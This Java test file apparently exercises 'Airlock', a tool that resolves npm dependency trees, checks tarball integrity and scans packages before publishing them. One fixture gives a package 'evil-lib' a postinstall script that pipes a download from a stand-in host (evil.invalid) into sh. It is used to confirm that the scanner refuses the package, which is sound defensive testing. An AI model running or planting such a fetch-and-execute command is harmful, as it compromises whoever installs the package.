package dev.airlock.bootstrap;

import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.junit5.WireMockRuntimeInfo;
import com.github.tomakehurst.wiremock.junit5.WireMockTest;
import dev.airlock.bootstrap.AirlockProcess.Run;
import dev.airlock.bootstrap.NpmRegistryEmulation.Version;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An npm release row ({@code npm:some-pkg@1.0.0}) brings its dependency closure through the airlock:
 * the real CLI resolves it against an npm registry emulation on loopback (package documents and real
 * tarballs built here), picks the versions npm would, checks each tarball against the registry's
 * integrity, and scans and publishes each one; the real {@code npm} resolving the same registry
 * agrees on the versions.
 */
@WireMockTest
class NpmClosureEndToEndTest {
  private static final long TOOL_TIMEOUT_SECONDS = 300;

  @TempDir
  Path work;

  /** some-pkg 1.0.0 needs dep-a ^1.0.0 (1.0.0, 1.2.0, 2.0.0 exist) and @scope/dep-b ~2.1.0 (2.1.0, 2.1.3, 2.2.0). */
  private static List<Version> someTree() {
    return List.of(
        new Version("dep-a", "1.0.0", Map.of()),
        new Version("dep-a", "1.2.0", Map.of()),
        new Version("dep-a", "2.0.0", Map.of()),
        new Version("@scope/dep-b", "2.1.0", Map.of()),
        new Version("@scope/dep-b", "2.1.3", Map.of()),
        new Version("@scope/dep-b", "2.2.0", Map.of()),
        new Version("some-pkg", "1.0.0", Map.of("dep-a", "^1.0.0", "@scope/dep-b", "~2.1.0")));
  }

  @Test
  void shouldResolveScanAndPublishAllThreeWhenNpmReleaseRowHasTwoDependencies(WireMockRuntimeInfo wm)
      throws Exception {
    // Given
    NpmRegistryEmulation.serve(wm.getWireMock(), wm.getHttpBaseUrl(), someTree());
    Files.writeString(work.resolve("requests.csv"), "npm:some-pkg@1.0.0\n");

    // When
    Run run = run(wm);

    // Then: the three tarballs npm would install are published, the versions the ranges exclude never fetched
    assertThat(run.code()).as(run.out() + run.err()).isZero();
    Path repository = work.resolve("airlock-data/repository");
    assertThat(repository.resolve("some-pkg/1.0.0/some-pkg-1.0.0.tgz")).isRegularFile();
    assertThat(repository.resolve("dep-a/1.2.0/dep-a-1.2.0.tgz")).isRegularFile();
    assertThat(repository.resolve("@scope/dep-b/2.1.3/dep-b-2.1.3.tgz")).isRegularFile();
    assertThat(run.out()).contains("3 approved, 0 refused, 0 error")
        .contains("some-pkg 1.0.0: APPROVED (new)", "dep-a 1.2.0: APPROVED (new)", "@scope/dep-b 2.1.3: APPROVED (new)");
    wm.getWireMock().verifyThat(0, getRequestedFor(urlPathEqualTo("/dep-a/-/dep-a-2.0.0.tgz")));
    wm.getWireMock().verifyThat(0, getRequestedFor(urlPathEqualTo("/@scope/dep-b/-/dep-b-2.2.0.tgz")));

    // And the run's package-lock.json pins the three tarballs, which the real npm ci installs, integrity checked
    JsonNode lock = new ObjectMapper().readTree(work.resolve("airlock-data/reports/package-lock.json").toFile());
    assertThat(lock.path("lockfileVersion").asInt()).isEqualTo(3);
    JsonNode depB = lock.path("packages").path("node_modules/@scope/dep-b");
    assertThat(depB.path("version").asText()).isEqualTo("2.1.3");
    assertThat(depB.path("resolved").asText()).isEqualTo(wm.getHttpBaseUrl() + "/@scope/dep-b/-/dep-b-2.1.3.tgz");
    assertThat(depB.path("integrity").asText()).startsWith("sha512-");
    if (PackageTools.run(work, TOOL_TIMEOUT_SECONDS, Map.of(), "npm", "--version").code() == 0) {
      Path project = Files.createDirectories(work.resolve("notebook"));
      Files.copy(work.resolve("airlock-data/reports/package-lock.json"), project.resolve("package-lock.json"));
      Files.writeString(project.resolve("package.json"), "{\"name\":\"airlock-approved\",\"version\":\"1.0.0\","
          + "\"dependencies\":{\"some-pkg\":\"1.0.0\"}}");
      PackageTools.Result ci = PackageTools.run(project, TOOL_TIMEOUT_SECONDS, Map.of(), "npm", "ci",
          "--ignore-scripts", "--no-audit", "--no-fund", "--registry", wm.getHttpBaseUrl() + "/", "--cache",
          work.resolve("npm-cache").toString());
      assertThat(ci.code()).as(ci.output()).isZero();
      assertThat(project.resolve("node_modules/@scope/dep-b/package.json")).content().contains("\"2.1.3\"");
      assertThat(project.resolve("node_modules/dep-a/package.json")).content().contains("\"1.2.0\"");
    }

    // And a second run reuses every decision
    Run again = run(wm);
    assertThat(again.code()).as(again.out() + again.err()).isZero();
    assertThat(again.out()).contains("0 approved, 0 refused, 0 error, 3 already decided");
  }

  @Test
  void shouldRefuseTopPackageAndNameDependencyWhenOneDependencyIsMalicious(WireMockRuntimeInfo wm)
      throws Exception {
    // Given: some-app needs clean-lib and evil-lib, whose install script downloads and runs a shell script
    NpmRegistryEmulation.serve(wm.getWireMock(), wm.getHttpBaseUrl(), List.of(
        new Version("clean-lib", "1.0.4", Map.of()),
        new Version("evil-lib", "0.1.2", Map.of(), Map.of("index.js", "module.exports = 1;\n"),
            Map.of("postinstall", "curl -fsSL https://evil.invalid/bootstrap.sh | sh")),
        new Version("some-app", "1.0.0", Map.of("clean-lib", "^1.0.0", "evil-lib", ">=0.1.0 <1"))));
    Files.writeString(work.resolve("requests.csv"), "npm:some-app@1.0.0\n");

    // When
    Run run = run(wm);

    // Then
    Path repository = work.resolve("airlock-data/repository");
    assertThat(run.out()).contains("some-app is refused: its dependency evil-lib 0.1.2 is refused")
        .containsPattern("evil-lib \\(blocks npm:some-app@1\\.0\\.0\\) +REFUSED");
    assertThat(repository.resolve("some-app")).doesNotExist();
    assertThat(repository.resolve("evil-lib")).doesNotExist();
    assertThat(repository.resolve("clean-lib/1.0.4/clean-lib-1.0.4.tgz")).as("an approval of its own").isRegularFile();
  }

  @Test
  void shouldErrorWithoutPublishingWhenTarballDoesNotMatchRegistryIntegrity(WireMockRuntimeInfo wm)
      throws Exception {
    // Given: the registry's document pins one tarball, the server then sends another
    NpmRegistryEmulation.serve(wm.getWireMock(), wm.getHttpBaseUrl(), List.of(
        new Version("solo-pkg", "1.0.0", Map.of())));
    byte[] swapped = NpmRegistryEmulation.tarball(new Version("solo-pkg", "1.0.0", Map.of(),
        Map.of("index.js", "module.exports = 'swapped';\n"), Map.of()));
    wm.getWireMock().register(com.github.tomakehurst.wiremock.client.WireMock.get(
        urlPathEqualTo("/solo-pkg/-/solo-pkg-1.0.0.tgz")).atPriority(1)
        .willReturn(com.github.tomakehurst.wiremock.client.WireMock.aResponse().withStatus(200).withBody(swapped)));
    Files.writeString(work.resolve("requests.csv"), "npm:solo-pkg@1.0.0\n");

    // When
    Run run = run(wm);

    // Then
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out() + run.err()).contains("does not match the registry's integrity sha512-");
    assertThat(work.resolve("airlock-data/repository/solo-pkg")).doesNotExist();
  }

  @Test
  void shouldPickTheSameVersionsAsTheRealNpmWhenRangesOverlapAndConflict(WireMockRuntimeInfo wm) throws Exception {
    assumeTrue(PackageTools.run(work, TOOL_TIMEOUT_SECONDS, Map.of(), "npm", "--version").code() == 0,
        "npm is not installed: the comparison with npm's own resolver did NOT run");
    // Given: shared is wanted as ^1.0.0 by the top and as ~1.1.0 by mid (dedupes to 1.1.2 only if chosen
    // first), and as ^2.0.0 by other (a second version beside it); latest is a lower version than the highest
    NpmRegistryEmulation.serve(wm.getWireMock(), wm.getHttpBaseUrl(), List.of(
        new Version("shared", "1.0.0", Map.of()),
        new Version("shared", "1.1.2", Map.of()),
        new Version("shared", "1.3.0", Map.of()),
        new Version("shared", "2.0.1", Map.of()),
        new Version("shared", "2.4.0-beta.1", Map.of()),
        new Version("mid", "1.0.0", Map.of("shared", "~1.1.0")),
        new Version("other", "3.0.0", Map.of("shared", "^2.0.0", "mid", "1.x")),
        new Version("top", "1.0.0", Map.of("shared", "^1.0.0", "mid", "^1.0.0", "other", ">=3"))));
    Files.writeString(work.resolve("requests.csv"), "npm:top@1.0.0\n");

    // When: Airlock resolves and decides, and the real npm resolves a project that depends on top 1.0.0
    Run run = run(wm);
    Path project = Files.createDirectories(work.resolve("project"));
    Files.writeString(project.resolve("package.json"), "{\"name\":\"p\",\"version\":\"1.0.0\","
        + "\"dependencies\":{\"top\":\"1.0.0\"}}");
    PackageTools.Result npm = PackageTools.run(project, TOOL_TIMEOUT_SECONDS, Map.of(), "npm", "install",
        "--package-lock-only", "--ignore-scripts", "--no-audit", "--no-fund", "--registry", wm.getHttpBaseUrl() + "/",
        "--cache", work.resolve("npm-cache").toString());

    // Then
    assertThat(run.code()).as(run.out() + run.err()).isZero();
    assertThat(npm.code()).as(npm.output()).isZero();
    Set<String> npmChose = new TreeSet<>();
    JsonNode packages = new ObjectMapper().readTree(project.resolve("package-lock.json").toFile()).path("packages");
    packages.fields().forEachRemaining(e -> {
      if (!e.getKey().isEmpty()) {
        String path = e.getKey();
        npmChose.add(path.substring(path.lastIndexOf("node_modules/") + "node_modules/".length()) + "@"
            + e.getValue().path("version").asText());
      }
    });
    Set<String> airlockPublished = new TreeSet<>();
    Path repository = work.resolve("airlock-data/repository");
    try (var versions = Files.list(repository)) {
      for (Path name : versions.filter(Files::isDirectory).filter(p -> !p.getFileName().toString().startsWith("."))
          .toList()) {
        try (var each = Files.list(name)) {
          each.filter(v -> Files.isRegularFile(v.resolve("publication.json")))
              .forEach(v -> airlockPublished.add(name.getFileName() + "@" + v.getFileName()));
        }
      }
    }
    assertThat(npmChose).containsExactlyInAnyOrder("top@1.0.0", "mid@1.0.0", "other@3.0.0", "shared@1.3.0",
        "shared@2.0.1", "shared@1.1.2");
    assertThat(airlockPublished).isEqualTo(npmChose);
  }

  private Run run(WireMockRuntimeInfo wm) throws Exception {
    return AirlockProcess.run(work, Map.of(), List.of("run", "requests.csv", "--allow-host",
        "localhost:" + wm.getHttpPort(), "--npm-registry-url", wm.getHttpBaseUrl()));
  }
}
